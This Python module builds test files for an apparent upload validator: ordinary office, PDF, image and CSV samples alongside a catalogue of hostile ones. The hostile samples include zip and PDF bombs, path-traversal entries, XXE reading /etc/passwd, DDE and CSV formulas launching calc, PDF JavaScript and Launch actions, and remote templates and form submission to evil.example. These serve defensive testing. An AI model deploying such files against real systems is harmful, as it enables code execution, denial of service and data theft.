"""Files that somebody made to do harm, and files as office programs make them. All are made here."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

from PIL import Image

__all__ = ["GOOD", "HOSTILE", "docx", "jpeg", "odp", "packed", "pdf", "png", "pptx"]

type Parts = dict[str, str | bytes]
_MIME = "application/vnd.oasis.opendocument.presentation"


def packed(files: Parts, *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _with(document: bytes, more: Parts) -> bytes:
    """Return an office document with parts of it replaced, or more of them."""
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        parts: Parts = {name: archive.read(name) for name in archive.namelist()}
    return packed(parts | more)


@cache
def docx() -> bytes:
    import docx as library

    document = library.Document()
    document.add_paragraph("Om klustret i Hällmo: företag möts över frukost.")
    table = document.add_table(rows=3, cols=2)
    for row, cells in enumerate((("Group", "Firms"), ("Research", "3"), ("Firms", "12"))):
        for column, cell in enumerate(cells):
            table.cell(row, column).text = cell
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@cache
def pptx() -> bytes:
    """Slides with a chart, behind which a workbook lies: as our own report writes them."""
    import pptx as library
    from pptx.chart.data import CategoryChartData
    from pptx.enum.chart import XL_CHART_TYPE
    from pptx.util import Inches

    deck = library.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[5])
    slide.shapes.title.text = "Samarbeid i klyngen på Østlandet"
    data = CategoryChartData()
    data.categories = ["research", "firms"]
    data.add_series("Answers", (2, 30))
    slide.shapes.add_chart(XL_CHART_TYPE.BAR_CLUSTERED, Inches(1), Inches(2), Inches(4), Inches(3), data)
    buffer = io.BytesIO()
    deck.save(buffer)
    return buffer.getvalue()


def odp(content: str = "", more: Parts | None = None, mime: str = _MIME) -> bytes:
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    body = content or f'<o:a xmlns:o="{office}" xmlns:t="{text}"><t:p>Yhteistyö klusterissa</t:p></o:a>'
    manifest = '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    return packed({"mimetype": mime, "content.xml": body, "META-INF/manifest.xml": manifest} | (more or {}))


def pdf(*objects: bytes, trailer: bytes = b"", tail: bytes = b"", head: bytes = b"%PDF-1.7\n") -> bytes:
    """Return a PDF of one page; `objects` are added, `trailer` stands in its trailer, `tail` behind its end."""
    words = b"BT /F1 18 Tf 40 100 Td (Une vallee qui coopere) Tj ET"
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(words), words),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *objects,
    ]
    out, places = head, []
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(parts) + 1, trailer, table)
    return out + tail


def _packed_objects(content: bytes, kind: bytes = b"/ObjStm", filters: bytes = b"/FlateDecode") -> bytes:
    data = zlib.compress(content)
    return b"<< /Type %s /N 1 /First 4 /Filter %s /Length %d >>\nstream\n%s\nendstream" % (
        kind,
        filters,
        len(data),
        data,
    )


def png(width: int = 40, height: int = 30) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (width, height), "teal").save(buffer, "PNG")
    return buffer.getvalue()


def _huge_png() -> bytes:
    """Return a PNG that says it has 40,000 × 40,000 dots."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", 40_000, 40_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def _moving_png() -> bytes:
    buffer = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), c) for c in ("red", "blue")]
    frames[0].save(buffer, "PNG", save_all=True, append_images=frames[1:])
    return buffer.getvalue()


def jpeg(*, place: bool = False) -> bytes:
    buffer = io.BytesIO()
    exif = Image.Exif()
    if place:
        exif.get_ifd(0x8825)[1] = "N"
        exif[0x8825] = {1: "N", 2: (59.0, 20.0, 0.0)}
    Image.new("RGB", (64, 48), "olive").save(buffer, "JPEG", exif=exif)
    return buffer.getvalue()


def _encrypted(document: bytes) -> bytes:
    """Set the mark of encryption on every part."""
    data = bytearray(document)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
    'TargetMode="External"/></Relationships>'
)
_ENTITY = '<!DOCTYPE a [<!ENTITY b "cccccccccc"><!ENTITY d "&b;&b;&b;">]><a>&d;</a>'
_FETCH = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
_WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_DDE = f'<w:a xmlns:w="{_WORDS}"><w:p><w:instrText>DDEAUTO c:\\\\cmd "/k calc"</w:instrText></w:p></w:a>'
_MACRO_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
_SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'
_ACTION = b"<< /Type /Action /S /%s /JS (app.alert(1)) >>"

#: What it is → its name and how it is made.
HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    # what it says it is not
    "a program": ("report.pdf", lambda: b"\x7fELF" + b"\0" * 500),
    "a program of Windows": ("slides.pptx", lambda: b"MZ" + b"\0" * 500),
    "a page": ("report.pdf", lambda: b"<!DOCTYPE html><script>alert(1)</script>"),
    "a drawing": ("map.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "a drawing called a picture": ("map.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>'),
    "a page called HTML": ("page.html", lambda: b"<html></html>"),
    "a picture called something else": ("photo.jpg", png),
    "an archive": ("all.zip", lambda: packed({"a.txt": "x"})),
    "an archive called slides": ("slides.pptx", lambda: packed({"a.txt": "x"})),
    "text called slides": ("slides.odp", lambda: docx()),
    "a document called slides": ("slides.pptx", lambda: docx()),
    "no ending": ("report", pdf),
    "two endings": ("report.pdf.exe", pdf),
    "nothing": ("report.pdf", lambda: b"\n \n"),
    # zip
    "a bomb": ("a.docx", lambda: _with(docx(), {"word/media/a.xml": b"<a>" + b" " * 90_000_000 + b"</a>"})),
    "many bombs": ("a.docx", lambda: _with(docx(), {f"word/{k}.xml": b" " * 1_000_000 for k in range(210)})),
    "ten thousand parts": ("a.docx", lambda: _with(docx(), {f"word/{k}.xml": "<a/>" for k in range(3001)})),
    "a path upwards": ("a.docx", lambda: _with(docx(), {"../../evil.xml": "<a/>"})),
    "a path from the root": ("a.docx", lambda: _with(docx(), {"/etc/evil.xml": "<a/>"})),
    "a path of another system": ("a.docx", lambda: _with(docx(), {"C:\\evil.xml": "<a/>"})),
    "a part twice": ("a.docx", lambda: _with(docx(), {"WORD/document.xml": "<a/>"})),
    "cut off": ("a.docx", lambda: docx()[: len(docx()) // 2]),
    "a damaged part": ("a.odp", lambda: odp().replace(b"content.xml", b"content.xmm", 1)),
    "encrypted parts": ("a.docx", lambda: _encrypted(docx())),
    "encrypted slides": ("a.pptx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "an unusual way of packing": (
        "a.odp",
        lambda: packed({"mimetype": _MIME, "content.xml": "<a/>" * 99, "META-INF/manifest.xml": "<a/>"}, method=12),
    ),
    # office
    "macros": ("a.docx", lambda: _with(docx(), {"word/vbaProject.bin": b"AutoOpen" * 20})),
    "macros that are declared": ("a.docx", lambda: _with(docx(), {"[Content_Types].xml": _MACRO_TYPES})),
    "macros of another office": ("a.odp", lambda: odp(more={"Basic/Standard/Module1.xml": "<m/>"})),
    "a script of another office": ("a.odp", lambda: odp(more={"Scripts/python/a.py": "import os"})),
    "an element that is a script": ("a.odp", lambda: odp('<o:x xmlns:o="urn:x"><o:script>x</o:script></o:x>')),
    "a foreign object": ("a.docx", lambda: _with(docx(), {"word/embeddings/oleObject1.bin": b"\0" * 20})),
    "a document inside": ("a.docx", lambda: _with(docx(), {"word/embeddings/inner.docx": docx()})),
    "a workbook with macros inside": (
        "a.docx",
        lambda: _with(
            docx(), {"word/embeddings/x.xlsx": packed({"[Content_Types].xml": "<a/>", "xl/vbaProject.bin": "x"})}
        ),
    ),
    "a program called a picture": ("a.docx", lambda: _with(docx(), {"word/media/image9.png": b"MZ" + b"\0" * 99})),
    "entities": ("a.docx", lambda: _with(docx(), {"word/footnotes.xml": _ENTITY})),
    "entities from elsewhere": ("a.odp", lambda: odp(_FETCH)),
    "a template from elsewhere": (
        "a.docx",
        lambda: _with(
            docx(),
            {
                "word/_rels/settings.xml.rels": _RELS.format(
                    kind="attachedTemplate", target="https://evil.example/a.dotm"
                )
            },
        ),
    ),
    "a picture from elsewhere": (
        "a.pptx",
        lambda: _with(
            pptx(),
            {"ppt/slides/_rels/slide9.xml.rels": _RELS.format(kind="image", target="https://evil.example/t.png")},
        ),
    ),
    "a link to a file": (
        "a.pptx",
        lambda: _with(
            pptx(), {"ppt/slides/_rels/slide9.xml.rels": _RELS.format(kind="hyperlink", target="file:///etc/passwd")}
        ),
    ),
    "a field that runs something": ("a.docx", lambda: _with(docx(), {"word/document.xml": _DDE})),
    "a drawing with a script inside": (
        "a.docx",
        lambda: _with(docx(), {"word/media/a.svg": _SVG.format("<script>alert(1)</script>")}),
    ),
    "a drawing that fetches": (
        "a.docx",
        lambda: _with(docx(), {"word/media/a.svg": _SVG.format('<image href="https://evil.example/t.png"/>')}),
    ),
    "slides that are encrypted": (
        "a.odp",
        lambda: odp(more={"META-INF/manifest.xml": '<m:manifest xmlns:m="urn:m"><m:encryption-data/></m:manifest>'}),
    ),
    # pdf
    "a script in a PDF": ("a.pdf", lambda: pdf(_ACTION % b"JavaScript")),
    "a script with escapes": ("a.pdf", lambda: pdf(_ACTION.replace(b"/JS", b"/J#53") % b"J#61vaScr#69pt")),
    "a script among packed objects": ("a.pdf", lambda: pdf(_packed_objects(b"7 0 " + _ACTION % b"JavaScript"))),
    "a script in a stream that says it is a page": (
        "a.pdf",
        lambda: pdf(_packed_objects(b"7 0 " + _ACTION % b"JavaScript", kind=b"/XObject")),
    ),
    "objects packed in an odd way": (
        "a.pdf",
        lambda: pdf(_packed_objects(b"7 0 x", filters=b"[/ASCIIHexDecode /FlateDecode]")),
    ),
    "a program that is started": ("a.pdf", lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>")),
    "a form that sends": ("a.pdf", lambda: pdf(b"<< /S /SubmitForm /F (https://evil.example) >>")),
    "a file in a PDF": ("a.pdf", lambda: pdf(b"<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream")),
    "files in a PDF": ("a.pdf", lambda: pdf(b"<< /EmbeddedFiles << /Names [] >> >>")),
    "a film in a PDF": ("a.pdf", lambda: pdf(b"<< /Subtype /RichMedia >>")),
    "a form of another kind": ("a.pdf", lambda: pdf(b"<< /XFA [ (a) 7 0 R ] >>")),
    "an encrypted PDF": ("a.pdf", lambda: pdf(trailer=b"/Encrypt 7 0 R")),
    "something behind a PDF": ("a.pdf", lambda: pdf(tail=packed({"a.txt": "x"}))),
    "something before a PDF": ("a.pdf", lambda: b"<html>" + pdf()),
    "half a PDF": ("a.pdf", lambda: pdf()[:200]),
    "a PDF that unpacks without end": ("a.pdf", lambda: pdf(_packed_objects(b"\0" * 130_000_000))),
    # pictures
    "a gigantic picture": ("a.png", _huge_png),
    "half a picture": ("a.png", lambda: png()[:-20]),
    "something behind a picture": ("a.png", lambda: png() + b"<script>alert(1)</script>"),
    "something behind a photograph": ("a.jpg", lambda: jpeg() + packed({"a.txt": "x"})),
    "half a photograph": ("a.jpeg", lambda: jpeg()[:200]),
    "a picture that moves": ("a.png", _moving_png),
    # tables
    "a formula": ("a.csv", lambda: b"name,n\n=cmd|'/c calc'!A1,1\n"),
    "a formula that begins with a sign": ("a.csv", lambda: b"name,n\n+SUM(A1),1\n"),
    "a formula that begins with an at": ("a.csv", lambda: b"name;n\n@SUM(A1);1\n"),
    "a page called a table": ("a.csv", lambda: b"<html><script>1</script>,\n1,2\n"),
    "bytes called a table": ("a.csv", lambda: b"a,b\n\x00\x01,\x02\n"),
    "another encoding": ("a.csv", lambda: "namn;antal\nSågverk;3\n".encode("latin-1")),
    "rows of different lengths": ("a.csv", lambda: b"a,b\n1,2,3\n"),
    "a cell without end": ("a.csv", lambda: b'a,b\n"' + b"x" * 60_000 + b'",1\n'),
    "one row": ("a.csv", lambda: b"a,b\n"),
}

#: Files as programs make them: their name, how they are made, a word that is in them.
GOOD: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "document": ("Rapport från Hällmo.docx", docx, "frukost"),
    "slides": ("slides.pptx", pptx, "Østlandet"),
    "slides of another office": ("kalvot.odp", odp, "Yhteistyö"),
    "PDF": ("rapport.pdf", pdf, "vallee qui coopere"),
    "table": ("data.csv", lambda: "år;företag\n2024;40\n2025;-3,5\n".encode(), "företag"),
    "picture": ("map.png", png, ""),
    "photograph": ("photo.JPG", jpeg, ""),
}
